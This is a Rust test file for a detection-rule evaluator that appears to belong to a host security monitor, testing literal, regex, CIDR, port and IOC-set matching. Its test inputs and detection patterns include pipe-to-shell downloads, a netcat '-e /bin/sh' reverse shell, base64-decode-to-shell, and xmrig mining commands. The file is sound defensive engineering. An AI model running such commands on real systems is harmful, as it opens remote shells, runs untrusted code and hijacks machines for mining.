//! Tests of the compiled evaluator: literal ops, regexes, CIDRs, numbers, IOC sets, kinds.

use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;

use pipeline::event::{Ancestor, Argv, ProcessContext};
use pipeline::{Event, EventMeta, ProcessKey};

use super::*;
use crate::rule::{Format, KindSet, Origin};

fn exec(exe: &str, args: &[&str]) -> Event {
    Event::ProcessExec(pipeline::event::ProcessExec {
        meta: EventMeta { ts_ns: 1, event_id: 1 },
        process: ProcessKey { pid: 10, start_time_ns: 5 },
        ppid: 1,
        uid: 1000,
        gid: 1000,
        cgroup_id: 0,
        comm: "x".into(),
        exe: exe.into(),
        argv: Argv::from_args(args.iter().copied()),
        argv_truncated: false,
        attributes: None,
        context: Some(Arc::new(ProcessContext {
            exe: exe.into(),
            argv: Argv::from_args(args.iter().copied()),
            ancestry: vec![Ancestor {
                process: ProcessKey { pid: 1, start_time_ns: 0 },
                exe: "/usr/sbin/nginx".into(),
                args: "nginx: worker".into(),
            }],
            lineage: pipeline::event::Lineage::Complete,
            ..ProcessContext::unknown()
        })),
    })
}

fn connect(addr: &str, port: u16) -> Event {
    Event::NetConnect(pipeline::event::NetConnect {
        meta: EventMeta { ts_ns: 2, event_id: 2 },
        process: ProcessKey { pid: 10, start_time_ns: 5 },
        protocol: pipeline::event::Protocol::Tcp,
        dst_addr: addr.parse::<IpAddr>().expect("ip"),
        dst_port: port,
        result: Some(0),
        context: None,
    })
}

fn text(field: Field, op: TextOp, values: &[&str]) -> Expr {
    Expr::Pred(Pred {
        target: Target::Field(field),
        test: Test::Text { op, values: values.iter().map(|v| Arc::from(*v)).collect(), all: false, cased: false },
    })
}

fn all_kinds(expr: Expr) -> Match {
    Match { kinds: KindSet::ALL, expr }
}

fn hits(evaluator: &Evaluator, event: &Event) -> Vec<u32> {
    let mut scratch = evaluator.scratch();
    let mut out = Vec::new();
    evaluator.evaluate(event, &mut scratch, &mut out);
    out.into_iter().map(|m| m.0).collect()
}

use pipeline::Field;

#[test]
fn literal_ops_share_one_scan_and_are_case_insensitive() {
    let mut b = Builder::default();
    b.add(&all_kinds(text(Field::Exe, TextOp::Prefix, &["/TMP/"])));
    b.add(&all_kinds(text(Field::Exe, TextOp::Suffix, &["/sh", "/bash"])));
    b.add(&all_kinds(text(Field::Exe, TextOp::Equals, &["/tmp/x/bash"])));
    b.add(&all_kinds(text(Field::Exe, TextOp::Equals, &["/tmp/x"])));
    b.add(&all_kinds(text(Field::Cmdline, TextOp::Contains, &["CURL http"])));
    b.add(&all_kinds(text(Field::ParentExe, TextOp::Suffix, &["nginx"])));
    b.add(&all_kinds(Expr::Not(Box::new(text(Field::Exe, TextOp::Contains, &["bash"])))));
    let ev = b.build(&[]).expect("builds");
    assert_eq!(hits(&ev, &exec("/tmp/x/bash", &["bash", "-c", "curl http://x | sh"])), vec![0, 1, 2, 4, 5]);
    assert_eq!(hits(&ev, &exec("/usr/bin/true", &["true"])), vec![5, 6]);
}

#[test]
fn all_means_every_literal_and_cased_is_exact() {
    let mut b = Builder::default();
    b.add(&all_kinds(Expr::Pred(Pred {
        target: Target::Field(Field::Cmdline),
        test: Test::Text { op: TextOp::Contains, values: vec!["-e".into(), "/bin/sh".into()], all: true, cased: false },
    })));
    b.add(&all_kinds(Expr::Pred(Pred {
        target: Target::Field(Field::Exe),
        test: Test::Text { op: TextOp::Equals, values: vec!["/usr/bin/NC".into()], all: false, cased: true },
    })));
    b.add(&all_kinds(Expr::Pred(Pred {
        target: Target::Arg(1),
        test: Test::Text { op: TextOp::Equals, values: vec!["-E".into()], all: false, cased: false },
    })));
    let ev = b.build(&[]).expect("builds");
    assert_eq!(hits(&ev, &exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "1.2.3.4"])), vec![0, 2]);
    assert_eq!(hits(&ev, &exec("/usr/bin/nc", &["nc", "-l"])), Vec::<u32>::new());
    assert_eq!(hits(&ev, &exec("/usr/bin/NC", &["nc"])), vec![1]);
}

#[test]
fn regex_cidr_numbers_sets_and_kinds() {
    let origin = Origin { file: Arc::from(PathBuf::from("x.yml").as_path()), line: 1, format: Format::Native };
    let sets = vec![
        IocSet {
            name: "ips".into(),
            kind: IocKind::Ip,
            values: vec!["203.0.113.0/24".into(), "::1".into()],
            origin: origin.clone(),
        },
        IocSet {
            name: "subs".into(),
            kind: IocKind::Substring,
            values: vec!["xmrig".into(), "stratum+tcp".into()],
            origin,
        },
    ];
    let mut b = Builder::default();
    b.add(&all_kinds(Expr::Pred(Pred {
        target: Target::Field(Field::Cmdline),
        test: Test::Regex { patterns: vec![r"(?i)base64\s+-d".into()], all: false },
    })));
    b.add(&Match {
        kinds: KindSet::of(&[pipeline::EventKind::NetConnect]),
        expr: Expr::All(vec![
            Expr::Pred(Pred {
                target: Target::Field(Field::DstAddr),
                test: Test::Cidr(vec![Cidr::parse("10.0.0.0/8").expect("cidr")]),
            }),
            Expr::Pred(Pred { target: Target::Field(Field::DstPort), test: Test::NumIn(vec![3333, 4444]) }),
        ]),
    });
    b.add(&all_kinds(Expr::Pred(Pred { target: Target::Field(Field::DstAddr), test: Test::InSet("ips".into()) })));
    b.add(&all_kinds(Expr::Pred(Pred { target: Target::Field(Field::Cmdline), test: Test::InSet("subs".into()) })));
    b.add(&all_kinds(Expr::Pred(Pred {
        target: Target::Field(Field::DstPort),
        test: Test::Num { op: CmpOp::Ge, value: 1024 },
    })));
    b.add(&all_kinds(Expr::Pred(Pred { target: Target::Field(Field::DstPort), test: Test::Exists(false) })));
    let ev = b.build(&sets).expect("builds");
    assert_eq!(hits(&ev, &exec("/bin/sh", &["sh", "-c", "echo x | BASE64  -d | sh"])), vec![0, 5]);
    assert_eq!(hits(&ev, &exec("/opt/XMRig", &["xmrig", "-o", "STRATUM+TCP://pool:3333"])), vec![3, 5]);
    assert_eq!(hits(&ev, &connect("10.1.2.3", 4444)), vec![1, 4]);
    assert_eq!(hits(&ev, &connect("::ffff:203.0.113.9", 80)), vec![2]);
    assert_eq!(hits(&ev, &connect("::1", 80)), vec![2]);
}

#[test]
fn an_unknown_set_is_a_compile_error() {
    let mut b = Builder::default();
    b.add(&all_kinds(Expr::Pred(Pred { target: Target::Field(Field::Exe), test: Test::InSet("nope".into()) })));
    let errors = b.build(&[]).expect_err("unknown set");
    assert!(errors[0].message.contains("nope"));
}

#[test]
fn sha256_sets_hold_a_hundred_thousand_and_load_fast() {
    let values: Vec<Arc<str>> = (0..100_000u64).map(|i| format!("{:064x}", i * 7919).into()).collect();
    let origin = Origin { file: Arc::from(PathBuf::from("x.yml").as_path()), line: 1, format: Format::Native };
    let set = IocSet { name: "h".into(), kind: IocKind::Sha256, values, origin };
    let started = std::time::Instant::now();
    let mut b = Builder::default();
    b.add(&all_kinds(Expr::Pred(Pred { target: Target::Field(Field::CtxExeSha256), test: Test::InSet("h".into()) })));
    let ev = b.build(&[set]).expect("builds");
    // A generous bound for a loaded 2-core machine; BENCHMARKS.md has the figure.
    assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
    let mut event = exec("/x", &["x"]);
    if let Event::ProcessExec(e) = &mut event {
        e.context = Some(Arc::new(ProcessContext {
            exe_sha256: format!("{:064x}", 99u64 * 7919).into(),
            ..ProcessContext::unknown()
        }));
    }
    assert_eq!(hits(&ev, &event), Vec::<u32>::new(), "unknown context: no sha256 value");
    if let Event::ProcessExec(e) = &mut event {
        e.context = Some(Arc::new(ProcessContext {
            exe_sha256: format!("{:064x}", 99u64 * 7919).into(),
            lineage: pipeline::event::Lineage::Complete,
            ..ProcessContext::unknown()
        }));
    }
    assert_eq!(hits(&ev, &event), vec![0]);
}

#[test]
fn sha256_parsing() {
    assert_eq!(parse_sha256(&"0f".repeat(32)), Some([0x0f; 32]));
    assert_eq!(parse_sha256("zz"), None);
    assert_eq!(parse_sha256(&"g0".repeat(32)), None);
}

/// An evaluator with condition i = "the command line matches pattern i".
fn cmdline_regexes(patterns: &[&str]) -> Evaluator {
    let mut b = Builder::default();
    for pattern in patterns {
        b.add(&all_kinds(Expr::Pred(Pred {
            target: Target::Field(Field::Cmdline),
            test: Test::Regex { patterns: vec![(*pattern).into()], all: false },
        })));
    }
    b.build(&[]).expect("builds")
}

/// Regex conditions are gated by the literals every match must contain;
/// the gate must never hide a match. Each pattern against each text: the
/// evaluator agrees with the regex alone.
#[test]
fn gated_regexes_agree_with_the_regex_alone() {
    let patterns = [
        r"curl\s+-[oO]\s+/tmp/",
        r"(?i)BASE64\s+(-d|--decode)",
        r"(?i)xmrig|stratum\+tcp://",
        r"^(sh|bash) -c .*\|\s*(sh|bash)$",
        r"[0-9]{3,}",
        r".*",
        r"(?i)a\w*z",
    ];
    let texts = [
        "curl -o /tmp/x http://h",
        "curl   -O /tmp/",
        "echo aGk= | base64 --decode | sh",
        "echo | Base64 -D",
        "./XMRig -o STRATUM+TCP://pool:3333",
        "bash -c curl x | sh",
        "sh -c ls",
        "id 12345",
        "AbcZ",
        "",
        "plain words only",
    ];
    let ev = cmdline_regexes(&patterns);
    for text in texts {
        let args: Vec<&str> = text.split(' ').collect();
        let got = hits(&ev, &exec("/bin/x", &args));
        let joined = args.join(" ");
        let want: Vec<u32> = patterns
            .iter()
            .enumerate()
            .filter(|(_, p)| {
                regex::bytes::RegexBuilder::new(p).unicode(false).build().expect("valid").is_match(joined.as_bytes())
            })
            .map(|(i, _)| i as u32)
            .collect();
        assert_eq!(got, want, "text {joined:?}");
    }
}

/// The rule dialect (`check_regex`): `\w`, `\s`, `\b` are ASCII as in
/// PCRE, `(?u)` asks for Unicode, and a Sigma `?` (`(?u:.)`) is one
/// character however many bytes it takes.
#[test]
fn regexes_are_ascii_unless_unicode_is_asked_for() {
    let patterns = [r"^\w+$", r"(?u)^\w+$", r"(?is)^a(?u:.)b$", r"(?i)^ABC$"];
    let ev = cmdline_regexes(&patterns);
    assert_eq!(hits(&ev, &exec("/bin/x", &["été"])), vec![1]);
    assert_eq!(hits(&ev, &exec("/bin/x", &["plain_word"])), vec![0, 1]);
    assert_eq!(hits(&ev, &exec("/bin/x", &["aéb"])), vec![1, 2]);
    assert_eq!(hits(&ev, &exec("/bin/x", &["abc"])), vec![0, 1, 3]);
}
